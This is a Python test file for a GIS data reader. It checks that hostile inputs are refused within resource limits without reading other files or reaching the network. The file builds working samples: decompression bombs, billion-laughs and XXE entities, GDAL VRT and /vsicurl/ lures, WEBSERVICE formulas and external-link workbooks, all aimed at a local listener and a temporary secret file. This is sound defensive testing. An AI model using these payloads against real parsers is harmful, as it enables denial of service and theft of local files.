"""Hostile files: refused within a budget of processor time and memory; no other file is opened, no network touched."""

from __future__ import annotations

import bz2
import ctypes
import gc
import gzip
import json
import os
import re
import resource
import shutil
import socket
import sqlite3
import struct
import sys
import zipfile
from collections.abc import Callable
from contextlib import closing, suppress
from functools import cache
from pathlib import Path

import openpyxl
import pytest

import kaur_gis
from kaur_gis.problems import InputProblems
from kaur_gis.read import read_inputs

GOOD = Path(__file__).parent.parent / "bad" / "good"
MAX_MEGABYTES = 300
MAX_CPU_S = 5.0  # of the processor; a busy machine counts more of it than a quiet one, so a case has three tries
TRIES = 3
RUNAWAY_S = 30
OURS = (
    str(Path(kaur_gis.__file__).parent),
    sys.prefix,
    sys.base_prefix,
    "/proc/self/",
)  # what a program reads of its own
LAUGHS = "<!DOCTYPE a [" + "".join(f'<!ENTITY b{n + 1} "{f"&b{n};" * 10}">' for n in range(12)) + "]><osm>&b12;</osm>"
HEAD, FIRST, *_ = (GOOD / "tps.csv").read_text(encoding="utf-8").splitlines()

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="forks, and reads ru_maxrss in kilobytes")


def polygon(n: int) -> str:
    ring = "[[103.2,-4.7]," + "[103.21,-4.61]," * n + "[103.2,-4.7]]"
    geometry = '{"type":"Polygon","coordinates":[' + ring + "]}"
    feature = '{"type":"Feature","properties":{"kode_kec":"17.04.01"},"geometry":' + geometry + "}"
    return '{"type":"FeatureCollection","features":[' + feature + "]}"


def book(path: Path, **parts: str) -> None:
    """Write a small workbook; `parts` stand in for or beside its own."""
    sheet = openpyxl.Workbook()
    sheet.active.append(HEAD.split(","))
    sheet.active.append(FIRST.split(","))
    sheet.save(path)
    with zipfile.ZipFile(path) as archive:
        kept = {name: archive.read(name).decode() for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in kept.items():
            archive.writestr(name, text.replace("</sheetData>", parts.get("rows", "") + "</sheetData>"))
        for number in range(int(parts.get("members", "0"))):
            archive.writestr(f"xl/{number}.xml", "")
        if "bomb" in parts:
            archive.writestr("xl/bomb.xml", parts["bomb"], compresslevel=1)


def long_list(path: Path) -> None:
    """Two million rows as a list has them, 232 MB."""
    rows = (FIRST.ljust(115)[:115] + "\n").encode() * 20_000
    with path.open("wb") as file:
        file.write(HEAD.encode() + b"\n")
        file.writelines([rows] * 100)


def bomb(pack: Callable[[bytes], bytes], megabytes: int) -> bytes:
    """Pack blanks 5 MB at a time: both packings may be joined end to end."""
    return pack(b"<osm>") + pack(b" " * 5_000_000) * (megabytes // 5)


def far(row: int) -> str:
    return f'<row r="{row}"><c r="XFD{row}"><v>1</v></c></row>'


HOSTILE: dict[str, tuple[str, str, Callable[[Path], object]]] = {
    "two million rows": ("tps.csv", "file_too_big", long_list),
    "two million short rows": ("tps.csv", "too_many_rows", lambda p: p.write_text(HEAD + "\n" + "a\n" * 2_000_000)),
    "short rows": ("tps.csv", "row_length", lambda p: p.write_text(HEAD + "\n" + "a\n" * 200_000)),
    "five million vertices": ("k.geojson", "too_many_vertices", lambda p: p.write_text(polygon(5_000_000))),
    "many vertices": ("k.geojson", "geometry_invalid", lambda p: p.write_text(polygon(100_000))),
    "many features": ("k.geojson", "too_many_rows", lambda p: p.write_text('{"properties":' * 300_000)),
    "deep nesting": ("k.geojson", "bad_json", lambda p: p.write_text("[" * 400_000)),
    "a big geopackage": (
        "k.gpkg",
        "file_too_big",
        lambda p: p.write_bytes(b"SQLite format 3\0".ljust(68, b"\0") + b"GPKG" + b"\0" * 60_000_000),
    ),
    "a gzip bomb of roads": ("jalan.osm.gz", "osm_bomb", lambda p: p.write_bytes(bomb(gzip.compress, 495))),
    "a bzip2 bomb of roads": ("jalan.osm.bz2", "osm_bomb", lambda p: p.write_bytes(bomb(bz2.compress, 100))),
    "laughs of roads": ("jalan.osm", "osm_doctype", lambda p: p.write_text(LAUGHS)),
    "an unpacking bomb": ("tps.xlsx", "archive_too_big", lambda p: book(p, bomb="0" * 60_000_000)),
    "600 members": ("tps.xlsx", "archive_too_big", lambda p: book(p, members="600")),
    "a far cell": ("tps.xlsx", "too_many_columns", lambda p: book(p, rows=far(1_048_576))),
    "a row beyond any sheet": ("tps.xlsx", "too_many_rows", lambda p: book(p, rows='<row r="900000000"/>')),
    "wide rows": ("tps.xlsx", "too_many_columns", lambda p: book(p, rows="".join(map(far, range(10, 20_000))))),
    "NUL in a list": ("tps.csv", "control_character", lambda p: p.write_text(f"{HEAD}\n{FIRST}\0\n")),
    "NUL for a list": ("tps.csv", "encoding", lambda p: p.write_bytes(b"\0" * 40_000_000)),
    "NUL in polygons": ("k.geojson", "encoding", lambda p: p.write_bytes(b"\0" * 1_000)),
    "NUL in roads": ("jalan.osm", "osm_broken", lambda p: p.write_bytes(b"<osm>" + b"\0" * 1_000)),
    "laughs as a list": ("tps.csv", "disguised", lambda p: p.write_text(LAUGHS)),
    "laughs as polygons": ("k.geojson", "disguised", lambda p: p.write_text(LAUGHS)),
    "laughs in packed roads": ("jalan.osm.gz", "osm_doctype", lambda p: p.write_bytes(gzip.compress(LAUGHS.encode()))),
    "a gzip bomb as a pbf": ("jalan.osm.pbf", "osm_disguised", lambda p: p.write_bytes(bomb(gzip.compress, 495))),
    "a formula": ("tps.xlsx", "formula_cell", lambda p: book(p, rows='<row r="3"><c r="A3"><f>WEBSERVICE("http://127.0.0.1")</f></c></row>')),
}  # fmt: skip


def vrt(url: str, secret: str) -> str:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>/vsicurl/{url}tps.csv</SrcDataSource></OGRVRTLayer>'
        f'<OGRVRTLayer name="b"><SrcDataSource>{secret}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
    )


def gdalg(url: str, _secret: str) -> str:
    return json.dumps(
        {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read /vsicurl/{url}tps.csv"}
    )


def entity(url: str, secret: str) -> str:
    both = f'<!ENTITY a SYSTEM "{url}"><!ENTITY b SYSTEM "file://{secret}"><!ENTITY % c SYSTEM "{url}c.dtd">%c;'
    return f"<!DOCTYPE osm [{both}]><osm><node>&a;&b;</node></osm>"


def asking(url: str, _secret: str) -> str:
    return f'{HEAD}\n"=WEBSERVICE(""{url}"")",{FIRST.partition(",")[2]}\n'


def linked_book(path: Path, url: str, secret: str) -> None:
    """A workbook that takes its cells from elsewhere."""
    other = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
    book(path)
    with zipfile.ZipFile(path, "a") as archive:
        for number, target in enumerate((url, f"file://{secret}")):
            archive.writestr(
                f"xl/externalLinks/_rels/externalLink{number}.xml.rels",
                f'<Relationships><Relationship Id="r1" Type="{other}" Target="{target}" TargetMode="External"/>'
                "</Relationships>",
            )


def spoiled_book(path: Path, url: str, secret: str) -> None:
    book(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/worksheets/sheet1.xml"] = entity(url, secret).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def pointing_geopackage(path: Path, _url: str, secret: str) -> None:
    """A GeoPackage whose layer is a virtual table over another file."""
    with closing(sqlite3.connect(path)) as connection:
        connection.executescript(
            "PRAGMA application_id = 0x47504B47; PRAGMA writable_schema = ON;"
            "CREATE TABLE gpkg_contents (table_name, data_type); INSERT INTO gpkg_contents VALUES ('k', 'features');"
            "CREATE TABLE gpkg_geometry_columns (table_name, column_name, srs_id);"
        )
        connection.execute(
            "INSERT INTO sqlite_master VALUES ('table', 'k', 'k', 0, ?)",
            (f"CREATE VIRTUAL TABLE k USING VirtualOGR({secret})",),
        )
        connection.commit()


def text(content: Callable[[str, str], str]) -> Callable[[Path, str, str], object]:
    return lambda path, url, secret: path.write_text(content(url, secret), encoding="utf-8")


def shapefile(path: Path, url: str, secret: str) -> None:
    for end in (".shp", ".shx", ".dbf"):
        path.with_suffix(end).write_text(vrt(url, secret))


BAITED: dict[str, tuple[str, str, Callable[[Path, str, str], object] | None]] = {
    **{f"a VRT as {name}": (name, "disguised", text(vrt)) for name in ("tps.csv", "k.geojson", "k.gpkg")},
    "a VRT as a workbook": ("tps.xlsx", "file_damaged", text(vrt)),
    "a VRT as a shapefile": ("k.shp", "disguised", shapefile),
    "a VRT as roads": ("jalan.osm", "osm_broken", text(vrt)),
    "a VRT as packed roads": ("jalan.osm.pbf", "osm_disguised", text(vrt)),
    "a pipeline as points": ("tps.geojson", "not_features", text(gdalg)),
    "a pipeline as polygons": ("k.json", "not_features", text(gdalg)),
    "an entity as points": ("tps.geojson", "disguised", text(entity)),
    "an entity as a list": ("tps.csv", "disguised", text(entity)),
    "an entity as roads": ("jalan.osm", "osm_doctype", text(entity)),
    "an entity as packed roads": (
        "jalan.osm.gz",
        "osm_doctype",
        lambda p, url, secret: p.write_bytes(gzip.compress(entity(url, secret).encode())),
    ),
    "an entity in a workbook": ("tps.xlsx", "file_damaged", spoiled_book),
    "a workbook that links elsewhere": ("tps.xlsx", "total_tps", linked_book),
    "a GeoPackage that points elsewhere": ("k.gpkg", "no_rows", pointing_geopackage),
    "a formula that asks": ("tps.csv", "code_pattern", text(asking)),
    **{
        f"the path {path}": (path, "path_not_local", None)
        for path in ("/vsicurl/{url}tps.csv", "/vsizip/{secret}.zip/tps.csv", "/vsimem/tps.csv", "GPKG:{secret}",
                     "PG:host=127.0.0.1", "{url}k.gpkg", "file://{secret}", "//127.0.0.1/k/tps.csv")
    },
}  # fmt: skip
"""A file, what it is refused for, and how it is made from the address of a listener and the path of a secret file."""


def use(folder: Path, name: str) -> Path:
    """Let the good operation name another file for its TPS, its kecamatan or its roads."""
    operation = folder / "operation.toml"
    written = operation.read_text(encoding="utf-8")
    if name.startswith("jalan"):
        written = written.replace('kind = "schematic"', f'kind = "osm"\npath = "{name}"')
    else:
        key = "tps" if name.startswith("tps") else "kecamatan"
        written = re.sub(rf"(?m)^{key} = .*$", lambda _: f'{key} = "{name}"', written)
    operation.write_text(written, encoding="utf-8")
    return operation


class Watch:
    """Tells what anybody opens, makes or changes in a few folders, as the kernel sees it."""

    OPEN, CHANGE = 0x20, 0x2 | 0x4 | 0x40 | 0x80 | 0x100 | 0x200 | 0x400  # of inotify(7)
    IS_FOLDER = 0x40000000
    HEAD = struct.Struct("iIII")

    def __init__(self, *folders: Path) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        self.handle = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        self.folders = {
            libc.inotify_add_watch(self.handle, os.fsencode(folder), self.OPEN | self.CHANGE): folder
            for folder in folders
        }
        assert self.handle >= 0
        assert min(self.folders) >= 0

    def seen(self) -> tuple[set[Path], set[Path]]:
        """Give what was opened and what was changed since, and stop."""
        opened, changed = set[Path](), set[Path]()
        with suppress(BlockingIOError):
            while data := os.read(self.handle, 1 << 16):
                while data:
                    folder, mask, _, length = self.HEAD.unpack_from(data)
                    name = data[self.HEAD.size : self.HEAD.size + length].rstrip(b"\0")
                    if name and not mask & self.IS_FOLDER:
                        (opened if mask & self.OPEN else changed).add(self.folders[folder] / os.fsdecode(name))
                    data = data[self.HEAD.size + length :]
        os.close(self.handle)
        return opened, changed


@cache
def everything_is_loaded() -> None:
    """Before the memory is looked at."""
    read_inputs(GOOD / "operation.toml")


def judged_apart(operation: Path) -> tuple[list[str], int, float, list[str]]:
    """Read in a process of its own.

    Gives what is refused, what it took above what was there before [MB, s], and what Python opened, asked for or
    started outside the folder of the operation.
    """
    everything_is_loaded()
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reader)
        gc.freeze()  # what is there from before is the parent's: its memory stays shared
        before = resource.getrusage(resource.RUSAGE_SELF)
        used = int(before.ru_utime + before.ru_stime) + 1
        resource.setrlimit(resource.RLIMIT_CPU, (used + RUNAWAY_S, used + RUNAWAY_S))
        whats: list[str] = []
        touched: list[str] = []

        def watch(event: str, arguments: tuple[object, ...]) -> None:
            if event == "open" and not str(arguments[0]).startswith((str(operation.parent), *OURS)):
                touched.append(str(arguments[0]))
            elif event.startswith(
                ("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "ctypes.dlopen")
            ):
                touched.append(event)

        sys.addaudithook(watch)
        try:
            read_inputs(operation)
        except InputProblems as error:
            whats = [problem.what for problem in error.problems if problem.level == "refuse"]
            if "rahasia" in str(error).replace(str(operation), ""):
                touched.append("the secret is told")
        except BaseException as error:  # noqa: BLE001 - told to the parent
            whats = [f"{type(error).__name__}: {error}"]
        after = resource.getrusage(resource.RUSAGE_SELF)
        most = after.ru_maxrss - before.ru_maxrss
        seconds = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
        os.write(writer, json.dumps([whats[:50], most // 1000, seconds, touched[:50]]).encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as pipe:
        answer = pipe.read()
    os.waitpid(child, 0)
    assert answer, "it ran away with the processor"
    whats, megabytes, seconds, touched = json.loads(answer)
    return whats, megabytes, seconds, touched


@pytest.mark.filterwarnings("ignore:.*fork.*:DeprecationWarning")
@pytest.mark.parametrize("name", [*HOSTILE, *BAITED])
def test_a_hostile_file_is_refused_within_the_budget_and_nothing_else_is_read_asked_for_or_written(
    name: str, tmp_path: Path
) -> None:
    folder, elsewhere = tmp_path / "operasi", tmp_path / "lain"
    shutil.copytree(GOOD, folder)
    elsewhere.mkdir()
    secret = elsewhere / "secret.csv"
    secret.write_text("kode_tps\nrahasia\n")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0)
        url = f"http://127.0.0.1:{listener.getsockname()[1]}/"
        if name in HOSTILE:
            file, what, make = HOSTILE[name]
            make(folder / file)
        else:
            file, what, make_from = BAITED[name]
            file = file.format(url=url, secret=secret)
            if make_from is not None:
                make_from(folder / file, url, str(secret))
        operation = use(folder, file)
        mine = {path.name for path in GOOD.iterdir()} | {path.name for path in folder.glob(f"{Path(file).stem}.*")}
        (folder / "rahasia.csv").write_text("kode_tps\nrahasia\n")
        for turn in range(TRIES):
            watch = Watch(folder, elsewhere)
            whats, megabytes, seconds, touched = judged_apart(operation)
            opened, changed = watch.seen()
            assert what in whats
            assert touched == []
            assert opened >= {operation}, "the watching works"
            assert opened <= {folder / each for each in mine}
            assert changed == set()
            assert megabytes < MAX_MEGABYTES
            if seconds < MAX_CPU_S:
                break
            assert turn < TRIES - 1, f"{seconds:.1f} s of the processor"
        with pytest.raises(BlockingIOError):
            listener.accept()
    shutil.rmtree(folder)  # some are big


@pytest.mark.filterwarnings("ignore:.*fork.*:DeprecationWarning")
def test_the_watching_sees_what_it_is_there_for(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("a")
    watch = Watch(tmp_path)
    assert (tmp_path / "a").read_text() == "a"
    assert watch.seen() == ({tmp_path / "a"}, set())
    watch = Watch(tmp_path)
    (tmp_path / "b").write_text("b")
    assert tmp_path / "b" in watch.seen()[1]


@pytest.mark.parametrize(
    "path", ["/vsizip/tps.zip/tps.csv", "GPKG:tps.gpkg", "PG:host=127.0.0.1", "https://127.0.0.1/a.gpkg"]
)
def test_names_that_are_no_local_files_are_refused_for_every_kind(path: str, tmp_path: Path) -> None:
    for key in ("tps", "desa", "tempat", "kecamatan"):
        folder = tmp_path / key
        shutil.copytree(GOOD, folder)
        operation = folder / "operation.toml"
        text = re.sub(rf"(?m)^{key} = .*$", f'{key} = "{path}"', operation.read_text(encoding="utf-8"))
        operation.write_text(text, encoding="utf-8")
        with pytest.raises(InputProblems) as refusal:
            read_inputs(operation)
        assert "path_not_local" in {problem.what for problem in refusal.value.problems}
